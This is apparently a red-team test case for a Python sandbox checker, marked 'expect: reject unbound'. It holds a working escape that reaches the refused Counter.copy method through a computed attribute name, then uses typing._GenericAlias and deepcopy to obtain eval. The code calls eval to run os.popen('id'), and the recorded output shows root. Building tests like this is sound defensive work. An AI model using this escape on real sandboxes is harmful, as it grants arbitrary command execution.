# expect: reject unbound
# line: 20
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: thirteenth red team, family U': getattr(collections.Counter, 'cop' + tail) reads a library class's Python method through a computed name with a letter prefix; Counter.copy(P) is the builtin type

# Mechanism: family U' (new route to the unbound-method door): getattr(collections.Counter, 'cop' + tail) with a computed name whose literal prefix starts with a letter and is no prefix of a refused name. The unbound rule (check_unbound_read in names.c) is applied to getattr only with a LITERAL name; the prefix branch checks refused attributes, format methods, method-call rules, register/registry/read, never the library-unbound list. Counter.copy(P) with P a class runs P.__class__(P) = type(P): the builtin type by value; type(typing.List[int]) is typing._GenericAlias; deepcopy of _GenericAlias(int, ('eval',), name='__builtins__') reduces to operator.getitem(typing's __builtins__ dict, 'eval') (11b family A)
# Goal reached: eval obtained by value and called: runs id (uid=0(root) printed)
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

tail = "y"
T = getattr(collections.Counter, "cop" + tail)(P)     # Counter.copy(P) -> P.__class__(P) -> type
print("by value:", T)
Alias = T(typing.List[int])                           # typing._GenericAlias
ev = copy.deepcopy(Alias(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"))
